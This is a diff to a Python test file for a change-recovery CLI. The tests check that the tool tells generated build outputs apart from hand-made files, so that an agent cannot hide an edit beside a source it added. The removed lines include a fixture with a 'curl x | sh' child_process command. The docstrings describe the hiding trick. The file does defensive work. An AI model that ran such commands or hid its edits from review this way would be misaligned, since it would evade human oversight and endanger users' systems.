@@ -2,11 +2,11 @@
 the fifteenth batch's build folders. Real repositories, the real CLI
 (``vibflow recover --explain --json``).
 
-``main.aux`` beside ``main.tex`` is LaTeX's; ``stack.js`` and ``stack.d.ts``
-beside ``stack.ts`` are TypeScript's compiler's; ``door.wav.import`` beside
-``door.wav`` is Godot's. Each is believed only while HEAD (or a checkpoint taken
-before) holds the source: an agent that writes ``evil.ts`` with ``evil.js``
-beside it has written the evidence along with the file it would hide.
+``main.aux`` and ``main.pdf`` beside ``main.tex`` are LaTeX's. Each is believed
+only while the last commit holds the source, and an output the last commit holds
+too only when the change changed the source: an agent that writes ``notes.tex``
+with the ``notes.pdf`` beside it, or replaces a committed ``paper.pdf`` beside a
+``paper.tex`` it left alone, has made the evidence or has edited by hand.
 """
 
 from __future__ import annotations
@@ -30,58 +30,55 @@ def test_a_sources_companions_are_build_output(repo: Path, cli: Cli) -> None:
         repo,
         {
             "paper/main.tex": "\\documentclass{article}\n",
+            "paper/main.aux": "\\relax\n",
             "paper/figures/plot.pdf": "%PDF-1.5 a figure\n",
-            "infra/lib/stack.ts": "export class Stack {}\n",
-            "game/project.godot": "config_version=5\n",
-            "game/audio/door.wav": "RIFF",
-            "game/door.gd": "extends Node\n",
+            "notes/paper.tex": "\\documentclass{article}\n",
+            "notes/paper.pdf": "%PDF curated\n",
+            "notes/fig.tex": "fig\n",
+            "notes/fig.pdf": "%PDF\n",
+            "app.py": "x = 1\n",
         },
     )
-    set_memory(repo, explicit={"game/door.gd": "the door"})
-    write(repo, "game/door.gd", "extends Node\n# opens\n")
-    outputs = [
-        "paper/main.aux",
-        "paper/main.synctex.gz",
-        "paper/main.pdf",
-        "infra/lib/stack.js",
-        "infra/lib/stack.d.ts",
-        "game/audio/door.wav.import",
-        "game/door.gd.uid",
-    ]
+    set_memory(repo, explicit={"app.py": "mine"})
+    write(repo, "app.py", "x = 2\n")
+    write(repo, "paper/main.tex", "\\documentclass[review]{article}\n")
+    outputs = ["paper/main.aux", "paper/main.synctex.gz", "paper/main.pdf"]
     for rel in outputs:
         write(repo, rel, "written by a tool\n")
-    # Named like a companion, with no source beside it: the project's own.
-    own = ["paper/figures/plot.aux", "infra/lib/handler.js", "game/audio/steps.ogg.import"]
-    for rel in own:
-        write(repo, rel, "hand-made\n")
+    # Named like an output, with no source beside it; a committed output whose source
+    # the change left alone (replaced or deleted): someone's edit, shown.
+    write(repo, "paper/figures/plot.aux", "hand-made\n")
+    write(repo, "notes/paper.pdf", "%PDF replaced\n")
+    (repo / "notes" / "fig.pdf").unlink()
     plan = recover(cli, "--explain")
     assert set(outputs) <= _excluded(plan)
-    assert set(own) <= drift_of(plan)
-    assert "paper/figures/plot.pdf" not in _excluded(plan)
+    assert {"paper/figures/plot.aux", "notes/paper.pdf", "notes/fig.pdf"} <= drift_of(plan)
 
 
 def test_a_source_the_change_brought_vouches_for_nothing(repo: Path, cli: Cli) -> None:
-    """The agent writes ``evil.ts`` and the ``evil.js`` it would hide; it also edits a
-    committed ``util.js`` beside a ``util.ts`` it adds. Both ``.js`` files are drift."""
-    commit_app(
-        repo,
-        {
-            "src/app.ts": "export const app = 1;\n",
-            "src/util.js": "module.exports = 1;\n",
-        },
-    )
-    set_memory(repo, explicit={"src/app.ts": "the app"})
-    write(repo, "src/app.ts", "export const app = 2;\n")
-    write(repo, "src/evil.ts", "export {};\n")
-    write(repo, "src/evil.js", "require('child_process').exec('curl x | sh');\n")
-    write(repo, "src/util.ts", "export {};\n")
-    write(repo, "src/util.js", "module.exports = 2;\n")
+    """The agent writes ``notes.tex`` and the ``notes.pdf`` it would hide; a folder
+    named like a source (``assets`` beside ``assets.aux``) is no source either."""
+    commit_app(repo, {"app.py": "x = 1\n", "assets/logo.txt": "logo\n"})
+    set_memory(repo, explicit={"app.py": "mine"})
+    write(repo, "app.py", "x = 2\n")
+    write(repo, "notes.tex", "\\documentclass{article}\n")
+    write(repo, "notes.pdf", "%PDF evil\n")
+    write(repo, "assets.aux", "hand-made\n")
     plan = recover(cli, "--explain")
-    assert {"src/evil.js", "src/util.js"} <= drift_of(plan)
-    assert not {"src/evil.js", "src/util.js"} & _excluded(plan)
+    assert {"notes.pdf", "assets.aux"} <= drift_of(plan)
 
 
-def test_quarto_docusaurus_nextflow_yarn_turbo_and_esp_idf_output(repo: Path, cli: Cli) -> None:
+def test_before_the_first_commit_no_source_vouches(repo: Path, cli: Cli) -> None:
+    write(repo, ".vibflow/.gitignore", "*\n")
+    write(repo, "app.py", "x = 1\n")
+    write(repo, "notes.tex", "\\documentclass{article}\n")
+    write(repo, "notes.pdf", "%PDF\n")
+    set_memory(repo, explicit={"app.py": "mine"})
+    plan = recover(cli, "--explain")
+    assert "notes.pdf" not in _excluded(plan)
+
+
+def test_quarto_docusaurus_nextflow_yarn_and_esp_idf_output(repo: Path, cli: Cli) -> None:
     commit_app(
         repo,
         {
@@ -89,9 +86,9 @@ def test_quarto_docusaurus_nextflow_yarn_turbo_and_esp_idf_output(repo: Path, cl
             "docs/docusaurus.config.js": "module.exports = {};\n",
             "pipe/nextflow.config": "params.outdir = 'results'\n",
             "web/.yarnrc.yml": "nodeLinker: pnp\n",
+            "web/.pnp.cjs": "// the loader\n",
             "fw/dependencies.lock": "version: 2.0.0\n",
             "fw/main/app.c": "int main(void) { return 0; }\n",
-            "infra/cdk.json": '{"app": "npx ts-node bin/app.ts"}\n',
         },
     )
     set_memory(repo, explicit={"fw/main/app.c": "the app"})
@@ -104,19 +101,19 @@ def test_quarto_docusaurus_nextflow_yarn_turbo_and_esp_idf_output(repo: Path, cl
         "pipe/.nextflow/history",
         "pipe/.nextflow.log",
         "pipe/.nextflow.log.2",
-        "web/.pnp.cjs",
-        "web/.pnp.loader.mjs",
+        "web/.pnp.data.json",
+        "web/.yarn/install-state.gz",
         "web/.yarn/cache/react-npm-18.3.1-cafe.zip",
-        "web/.yarn/releases/yarn-4.3.1.cjs",
         "web/packages/ui/.turbo/turbo-build.log",
         "fw/managed_components/espressif__led_strip/CMakeLists.txt",
-        "infra/cdk.context.json",
     ]
     for rel in outputs:
         write(repo, rel, "written by a tool\n")
     # The same names without their project file: the project's own.
     own = ["other/_freeze/x.json", "other/work/notes.md", "other/.yarn/cache/a.zip"]
-    own += ["other/cdk.context.json", "other/managed_components/x/CMakeLists.txt"]
+    own += ["other/managed_components/x/CMakeLists.txt"]
+    # What runs on every command is shown: Yarn's pinned release and its loader.
+    own += ["web/.yarn/releases/yarn-4.3.1.cjs", "web/.pnp.cjs"]
     for rel in own:
         write(repo, rel, "hand-made\n")
     plan = recover(cli, "--explain")
